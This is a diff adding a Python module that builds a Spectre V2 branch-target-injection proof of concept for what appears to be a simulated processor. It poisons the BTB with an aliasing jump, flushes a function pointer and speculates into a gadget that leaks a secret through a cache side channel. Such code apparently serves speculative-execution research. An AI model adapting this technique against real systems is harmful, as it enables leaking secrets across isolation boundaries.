@@ -1,0 +1,102 @@
+"""Spectre V2 (branch target injection) proof of concept.
+
+The victim ends with an indirect jump through a function pointer.  The
+attacker first executes its *own* indirect jump - placed at an address
+whose tag-less BTB slot aliases the victim's jump - with the gadget's
+address as the target, poisoning the shared BTB entry.  The victim's
+function pointer is then flushed, so its indirect jump waits ~DRAM
+latency while the front end speculates into the gadget, which
+dereferences the attacker-chosen pointer argument and transmits.
+"""
+from __future__ import annotations
+
+from typing import Optional
+
+from ..isa.instructions import INSTRUCTION_BYTES
+from ..params import MachineParams
+from .common import (
+    AttackProgram,
+    default_channel,
+    default_machine,
+    emit_prewarm,
+    make_builder,
+)
+from .gadgets import R_ARG_PROBE, R_ARG_PTR, R_RET, emit_indirect_gadget_body
+from .layout import AttackLayout
+from .sidechannel import Channel
+
+_R_TMP = 24
+
+
+def build_spectre_v2(
+    channel: Optional[Channel] = None,
+    layout: Optional[AttackLayout] = None,
+    machine: Optional[MachineParams] = None,
+) -> AttackProgram:
+    """Assemble a Spectre V2 attack with the given receiver/layout."""
+    channel = default_channel(channel)
+    layout = layout if layout is not None else AttackLayout()
+    machine = default_machine(machine)
+    btb_entries = machine.core.btb_entries
+    page_table = layout.build_page_table(
+        shared_probe=channel.requires_shared_probe
+    )
+    channel.prepare(layout, page_table, machine)
+
+    builder = make_builder(layout)
+    emit_prewarm(builder, layout)
+
+    # Install the benign target into the victim's function pointer.
+    builder.li_label(_R_TMP, "v2_benign")
+    builder.li(_R_TMP + 1, layout.fnptr_addr)
+    builder.store(_R_TMP, _R_TMP + 1)
+    builder.li_label(20, "v2_gadget_main")
+
+    # ---- BTB poisoning: attacker's aliasing indirect jump -----------------
+    builder.li(R_ARG_PTR, layout.array1_base)   # benign pointer
+    builder.li(R_ARG_PROBE, layout.probe_base)
+    builder.li(30, layout.n_train)
+    builder.label("v2_train_loop")
+    builder.li_label(R_RET, "v2_train_ret")
+    trainer_jmpi_pc = builder.next_address
+    builder.jmpi(20)                            # architecturally runs gadget
+    builder.label("v2_train_ret")
+    builder.addi(30, 30, -1)
+    builder.bne(30, 0, "v2_train_loop")
+
+    # ---- channel reset + flush the function pointer ------------------------
+    channel.emit_reset(builder, layout)
+    builder.li(_R_TMP, layout.fnptr_addr)
+    builder.clflush(_R_TMP)
+    builder.fence()
+
+    # ---- victim: indirect call with attacker-influenced arguments ----------
+    builder.li(R_ARG_PTR, layout.secret_addr)   # "call argument"
+    builder.li(R_ARG_PROBE, layout.probe_base)
+    builder.li_label(R_RET, "v2_benign")
+    # Pad so the victim's jump aliases the trainer's BTB slot.  The
+    # padding sits *before* the delinquent load so the fetch front end
+    # has already crossed it (and warmed its I-cache lines) by the
+    # time the speculation window opens.
+    alias_bytes = btb_entries * INSTRUCTION_BYTES
+    jmpi_offset = 2 * INSTRUCTION_BYTES         # li + load precede jmpi
+    while (builder.next_address + jmpi_offset
+           - trainer_jmpi_pc) % alias_bytes != 0:
+        builder.nop()
+    builder.li(9, layout.fnptr_addr)
+    builder.load(10, 9, note="function pointer (delinquent)")
+    builder.jmpi(10)                            # speculates into the gadget
+    builder.label("v2_benign")
+
+    # ---- measurement, then the gadget body (never reached
+    # architecturally by the victim; placed after HALT) ----------------------
+    channel.emit_measure(builder, layout)
+    builder.halt()
+    emit_indirect_gadget_body(builder, layout, "main")
+    return AttackProgram(
+        name=f"spectre-v2/{channel.name}",
+        program=builder.build(),
+        page_table=page_table,
+        layout=layout,
+        channel=channel,
+    )
